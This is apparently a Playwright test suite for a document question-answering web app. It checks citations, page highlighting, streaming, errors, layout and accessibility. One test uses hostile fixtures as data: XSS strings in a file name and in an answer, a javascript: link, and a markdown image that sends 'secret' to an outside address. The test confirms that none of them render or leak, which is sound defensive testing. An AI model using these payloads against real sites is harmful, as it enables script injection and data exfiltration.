"""The page in a real Chromium, against the real app in a process of its own."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.builders import paragraph, pdf
from tests.loopback import Events, LoopbackServer, Say, Status, chunk

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
from playwright.sync_api import Browser, Page, expect  # noqa: E402

from tests.ui.harbours import (  # noqa: E402
    IN_CHROMIUM,
    PAGES,
    QUESTION,
    QUOTE,
    add,
    answered,
    ask,
    choose_model,
    script,
)
from tests.ui.highlights import words_under_highlight  # noqa: E402

pytestmark = IN_CHROMIUM

WRITTEN = "In  winter  the  harbour  of  Sainte-Maxime  holds  many  boats,  and  in  summer  more."
HOSTILE_NAME = "<img src=x onerror=alert(1)>"
HOSTILE = (
    "Forty-one [1]. ![x](http://198.51.100.7/leak?q=secret) <img src=http://198.51.100.7/i "
    "onerror=alert(1)> <script>alert(1)</script> [x](javascript:alert(1)) "
    "![y](/gradio_api/file=http://198.51.100.7/z)"
)


def width_of(page: Page) -> float:
    """The width of the page image, in pixels."""
    box = page.locator(".sheet").bounding_box()
    assert box is not None
    return box["width"]


def test_a_citation_opens_on_the_exact_words(page: Page, server: LoopbackServer) -> None:
    script(server, Say("In winter it holds forty-one boats [1]."))
    ask(page)
    chip = page.locator("#thread a.cite")
    expect(chip).to_have_text("1", timeout=20_000)
    expect(page.locator("article.turn")).to_have_class(re.compile("done"))
    chip.focus()
    page.keyboard.press("Enter")
    expect(chip).to_have_attribute("aria-current", "true")
    expect(page.locator("#source h2")).to_have_text("Harbours of the coast")
    expect(page.locator("#source .pn")).to_have_text("p. 2 of 2")
    image = page.locator(".sheet img")
    page.wait_for_function("document.querySelector('.sheet img')?.naturalWidth > 0")
    expect(image).to_have_attribute("alt", "Page 2 of Harbours of the coast")
    marked = words_under_highlight(page, pdf(PAGES), 2)
    assert "forty-one boats" in marked
    assert marked in QUOTE
    expect(page.locator(".qq b")).to_contain_text("forty-one boats")
    page.get_by_role("button", name="Previous page").click()
    expect(page.locator("#source .pn")).to_have_text("p. 1 of 2")
    expect(page.locator(".hl")).to_have_count(0)
    page.locator(".qq").click()
    expect(page.locator("#source .pn")).to_have_text("p. 2 of 2")


def test_nothing_in_an_answer_or_a_name_runs_or_leaves(
    page: Page, server: LoopbackServer, tmp_path: Path
) -> None:
    content = pdf([paragraph(f"Nothing but {HOSTILE_NAME} is written here.")], title=HOSTILE_NAME)
    add(page, tmp_path / f"{HOSTILE_NAME}.pdf", content, HOSTILE_NAME)
    script(server, Say(HOSTILE))
    ask(page)
    expect(page.locator("article.turn.done .a")).to_contain_text("<script>", timeout=20_000)
    assert page.locator("#thread img, #thread script, #documents img").count() == 0
    assert page.locator("#thread a[href^='javascript']").count() == 0
    expect(page.locator("#source h2")).to_be_visible()  # the source that the answer opens
    page.locator(".doc[data-id]", has_text=HOSTILE_NAME).locator(".t").click()
    expect(page.locator("#source h2")).to_have_text(HOSTILE_NAME)
    assert page.locator("#source img").count() == 1  # the page itself
    page.get_by_role("button", name=f"Remove {HOSTILE_NAME}").click()
    page.locator("dialog .danger").click()
    expect(page.locator(".doc[data-id]", has_text=HOSTILE_NAME)).to_have_count(0)


def test_stopping_keeps_what_was_written_and_frees_the_box(
    page: Page, server: LoopbackServer
) -> None:
    script(
        server,
        Events([chunk({"content": f"{word} "}) for word in WRITTEN.split("  ")], stalls=True),
    )
    ask(page)
    expect(page.locator("article.turn.running .a")).to_contain_text("In winter", timeout=20_000)
    page.get_by_role("button", name="Stop", exact=True).click()
    expect(page.locator("article.turn.stopped .a")).to_contain_text("In winter")
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()
    server.closing.set()  # lets the connection go


def test_a_failure_is_one_sentence_and_the_question_stays(
    page: Page, server: LoopbackServer
) -> None:
    script(server, Status(401, {"error": {"message": "no", "type": "x", "code": 401}}))
    ask(page)
    expect(page.locator("article.turn.failed .error")).to_be_visible(timeout=20_000)
    expect(page.locator("article.turn .q")).to_have_text(QUESTION)
    script(server, Say("Forty-one [1]."))
    page.get_by_role("button", name="Ask again").click()
    expect(page.locator("article.turn.done .a")).to_contain_text("Forty-one", timeout=20_000)
    expect(page.locator("article.turn")).to_have_count(1)


def test_what_the_documents_do_not_say_shows_the_nearest_pages(page: Page) -> None:
    choose_model(page, "embedded reader")
    ask(page, "Which enzyme unwinds the double helix during replication?")
    expect(page.locator("article.turn.refused")).to_be_visible(timeout=20_000)
    expect(page.locator("#source h2")).to_have_text("Harbours of the coast")  # by itself
    expect(page.locator(".hl.seen").first).to_be_visible()
    expect(page.locator(".hl.open")).to_have_count(0)
    page.locator(".near").last.click()
    expect(page.locator("#source .pn")).to_have_text("p. 1 of 2")
    expect(page.locator(".edge")).to_be_visible()


def test_documents_can_be_left_out(page: Page) -> None:
    box = page.get_by_role("checkbox", name="Ask Harbours of the coast")
    box.click()
    expect(box).to_have_attribute("aria-checked", "false")
    expect(page.locator("#documents .h", has_text="Documents")).to_contain_text("0 of 1 chosen")
    ask(page)
    expect(page.locator("article.turn.held p.held")).to_contain_text("Tick", timeout=20_000)
    expect(page.locator("#announced")).to_contain_text("Tick")
    expect(page.locator(".error, .toast-body")).to_have_count(0)
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("article.turn")).to_have_count(0)


def test_a_file_that_cannot_be_read_says_why(page: Page, tmp_path: Path) -> None:
    add(page, tmp_path / "broken.pdf", b"%PDF-1.4\nnothing", "broken.pdf")
    row = page.locator(".doc[data-id]", has_text="broken.pdf")
    expect(row.locator(".st")).to_have_text("damaged")
    expect(row.locator(".why")).not_to_be_empty()
    row.get_by_role("button", name="Remove").click()
    page.locator("dialog .danger").click()
    expect(row).to_have_count(0)


def test_the_source_of_the_last_answer_does_not_outlive_it(
    page: Page, server: LoopbackServer
) -> None:
    answered(page, server)
    expect(page.locator(".hl.open").first).to_be_visible()
    script(server, Status(401, {"error": {"message": "no", "type": "x", "code": 401}}))
    ask(page)
    expect(page.locator("article.turn.failed .error")).to_be_visible(timeout=20_000)
    expect(page.locator(".hl")).to_have_count(0)
    expect(page.locator("#source .blank")).to_be_visible()
    expect(page.locator(".cite[aria-current]")).to_have_count(0)


def test_an_answer_is_announced_once_and_whole(page: Page, server: LoopbackServer) -> None:
    answered(page, server)
    expect(page.locator("#announced")).to_have_text("In winter it holds forty-one boats.")


def test_a_page_that_is_loaded_again_keeps_its_conversation(
    page: Page, server: LoopbackServer, browser: Browser
) -> None:
    answered(page, server)
    address = page.url
    page.reload()
    expect(page.locator("article.turn .q")).to_have_text(QUESTION)
    page.locator("#thread a.cite").click(modifiers=["Control"])
    expect(page.locator(".hl.open").first).to_be_visible()
    page.locator("#thread a.cite").click(button="middle")
    assert len(page.context.pages) == 1
    other = browser.new_page()
    other.goto(address)
    expect(other.locator(".invitation")).to_be_visible()
    other.close()
    page.get_by_role("button", name="New conversation").click()
    expect(page.locator("article.turn")).to_have_count(0)
    page.reload()
    expect(page.locator(".invitation")).to_be_visible()
    expect(page.locator("article.turn")).to_have_count(0)


def test_a_page_is_as_large_as_its_reader_wants(page: Page, server: LoopbackServer) -> None:
    answered(page, server)
    sheet = page.locator(".sheet")
    expect(sheet).to_be_visible()
    width = width_of(page)
    larger = page.get_by_role("button", name="Larger")
    larger.click()
    assert width_of(page) == pytest.approx(1.25 * width, rel=0.01)
    page.get_by_role("button", name="Previous page").click()
    expect(page.locator("#source .pn")).to_have_text("p. 1 of 2")
    assert width_of(page) == pytest.approx(1.25 * width, rel=0.01)
    page.get_by_role("button", name="Fit the width").click()
    assert width_of(page) == pytest.approx(width, rel=0.01)
    expect(page.get_by_role("button", name="Smaller")).to_be_disabled()


def test_at_a_thousand_pixels_answer_and_source_stand_side_by_side(
    page: Page, server: LoopbackServer
) -> None:
    page.set_viewport_size({"width": 1024, "height": 768})
    answered(page, server)
    expect(page.locator(".hl.open").first).to_be_in_viewport()
    middle = page.locator("#middle").bounding_box()
    right = page.locator("#right").bounding_box()
    assert middle is not None
    assert right is not None
    assert 500 < middle["width"] <= right["x"] - middle["x"]
    expect(page.locator(".doc[data-id]")).not_to_be_visible()
    page.get_by_role("button", name="Documents", exact=True).click()
    page.locator(".doc[data-id] .t").click()
    expect(page.locator(".doc[data-id]")).not_to_be_visible()
    expect(page.locator("#source .pn")).to_have_text("p. 1 of 2")


def test_beside_the_drawer_nothing_is_touched_and_back_closes_it(
    page: Page, server: LoopbackServer
) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    answered(page, server)
    address = page.url
    drawer = page.get_by_role("button", name="Documents", exact=True)
    ways: tuple[Callable[[], object], ...] = (
        lambda: page.mouse.click(370, 500),
        lambda: page.keyboard.press("Escape"),
        lambda: page.go_back(),
    )
    for leave in ways:
        drawer.click()
        expect(page.locator(".doc[data-id] .t")).to_be_in_viewport()
        assert page.evaluate("document.querySelector('#middle').inert")
        leave()
        expect(page.locator(".doc[data-id]")).not_to_be_visible()
        expect(drawer).to_have_attribute("aria-expanded", "false")
        page.wait_for_function("history.state === null")
    page.locator("#thread a.cite").click()
    expect(page.locator("#source")).to_be_visible()
    page.go_back()
    expect(page.locator("#source")).not_to_be_visible()
    assert page.url == address
    expect(page.locator("article.turn")).to_have_count(1)


def test_the_keyboard_skips_the_documents_and_keeps_its_place_among_them(
    page: Page, tmp_path: Path
) -> None:
    assert page.evaluate("document.body.firstElementChild.matches('a.skip')")
    page.get_by_role("link", name="Skip to the question").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#question textarea")).to_be_focused()
    add(page, tmp_path / "zoo.pdf", pdf([paragraph("A zoo.")], title="Zoo"), "Zoo")
    page.locator(".doc[data-id]", has_text="Zoo").hover()
    page.get_by_role("button", name="Remove Zoo").click()
    page.locator("dialog .danger").click()
    expect(page.locator(".doc[data-id] .t")).to_have_count(1)
    expect(page.locator(".doc[data-id] .t")).to_be_focused()


def test_what_is_touched_is_large_enough(page: Page, server: LoopbackServer) -> None:
    answered(page, server)
    expect(page.locator(".sheet")).to_be_visible()
    small = page.evaluate(
        """() => [...document.querySelectorAll('button, a.cite, select')].filter(control => {
          const box = control.getBoundingClientRect();
          const more = getComputedStyle(control, '::after');
          const grow = side => more.content === 'none' ? 0 : -parseFloat(more[side]) || 0;
          return box.width && (box.width + grow('left') + grow('right') < 24
            || box.height + grow('top') + grow('bottom') < 24);
        }).map(control => control.outerHTML)"""
    )
    assert small == []


def test_dark_is_remembered(page: Page) -> None:
    page.get_by_role("button", name="Light or dark").click()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    page.reload()
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    expect(page.locator("body")).to_have_css("background-color", "rgb(18, 23, 30)")


def test_a_phone_shows_everything_without_sideways_scrolling(
    page: Page, server: LoopbackServer
) -> None:
    page.set_viewport_size({"width": 390, "height": 844})
    script(server, Say(f"Forty-one [1].\n\n| a | b |\n|---|---|\n| {'x' * 90} | 12 |\n"))
    ask(page)
    chip = page.locator("#thread a.cite")
    expect(chip).to_be_visible(timeout=20_000)
    expect(page.locator("article.turn")).to_have_class(re.compile("done"))
    chip.click()
    expect(page.locator(".hl.open").first).to_be_in_viewport()
    mark = page.locator(".hl.open").first.bounding_box()
    assert mark is not None
    assert mark["height"] > 8  # readable
    page.keyboard.press("Escape")
    expect(page.locator("#source")).not_to_be_visible()
    page.get_by_role("button", name="Documents").click()
    expect(page.locator("#files")).to_be_attached()
    expect(page.locator(".doc .t").first).to_be_in_viewport()
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert page.evaluate("document.querySelector('#thread').scrollWidth") <= 390


def test_every_control_has_a_name(page: Page) -> None:
    nameless = page.evaluate(
        """() => [...document.querySelectorAll('button, select, textarea, input')]
          .filter(control => !control.getAttribute('aria-label'))
          .filter(control => !control.textContent.trim() && !control.labels?.length)
          .map(control => control.outerHTML)"""
    )
    assert nameless == []
